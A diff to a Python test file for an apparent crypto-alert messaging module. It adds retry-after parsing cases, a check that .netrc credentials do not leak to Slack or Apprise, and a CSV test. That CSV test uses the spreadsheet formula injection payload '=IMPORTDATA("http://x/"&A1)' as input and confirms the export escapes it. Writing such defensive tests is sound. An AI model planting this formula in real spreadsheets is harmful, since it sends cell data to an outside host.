@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import logging
 from collections.abc import Iterator
@@ -23,7 +25,7 @@ from cryptoproxy.watch.rulebook.reading import parse
 from cryptoproxy.watch.rulebook.rules import Channel
 from cryptoproxy.watch.telling import channels, desk, teller
 from cryptoproxy.watch.telling.desk import Desk, Waiting
-from cryptoproxy.watch.telling.messages import Message, discord, filled, slack
+from cryptoproxy.watch.telling.messages import Message, discord, filled, slack, table
 from cryptoproxy.watch.telling.picture import Pictures, drawn
 from cryptoproxy.watch.telling.silences import silenced
 from tests.conftest import wait_until
@@ -124,6 +126,8 @@ def test_without_elasticsearch_there_is_no_picture_and_nobody_asks_again_at_once
     [
         (204, "taken", None),
         ((429, {"retry_after": 1.5, "global": True}), "later", 1.5),
+        ((429, {"retry_after": 10**400}), "later", 3600.0),
+        ((429, {"retry_after": "soon"}), "later", None),
         (503, "later", None),
         (404, "gone", None),
         (401, "gone", None),
@@ -189,6 +193,28 @@ def test_apprise_serves_where_we_do_not(stand_in: StandIn, tmp_path: Path):
     )
     assert outcome.kind == "taken"
     assert stand_in.posts[0].payload["message"].startswith(EXAMPLE.words)
+
+
+@pytest.mark.filterwarnings("ignore:'imghdr' is deprecated:DeprecationWarning")
+@pytest.mark.parametrize("way", ["slack", "apprise"])
+def test_what_netrc_has_for_everybody_is_no_channel_s(
+    stand_in: StandIn, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, way: Any
+):
+    (tmp_path / ".netrc").write_text("default login somebody password secret\n")
+    (tmp_path / ".netrc").chmod(0o600)
+    monkeypatch.setenv("HOME", str(tmp_path))
+    address = stand_in.address if way == "slack" else stand_in.address.replace("http://", "json://")
+    (tmp_path / "address").write_text(address)
+    sent = channels.send(Channel(name="x", way=way, place=f"file:{tmp_path / 'address'}"), Message(alerts=[EXAMPLE]))
+    assert sent.kind == "taken"
+    assert stand_in.posts[0].way[1] == ""
+
+
+def test_no_cell_of_the_table_is_a_formula():
+    told = msgspec.structs.replace(EXAMPLE, words='=IMPORTDATA("http://x/"&A1)', asset="binance:@X:USDT", value=-2.5)
+    cells = next(iter(list(csv.reader(io.StringIO(table([told]).decode())))[1:]))
+    assert cells[-1] == "'" + told.words
+    assert "-2.5" in cells, "a number stays one"
 
 
 # --- silences
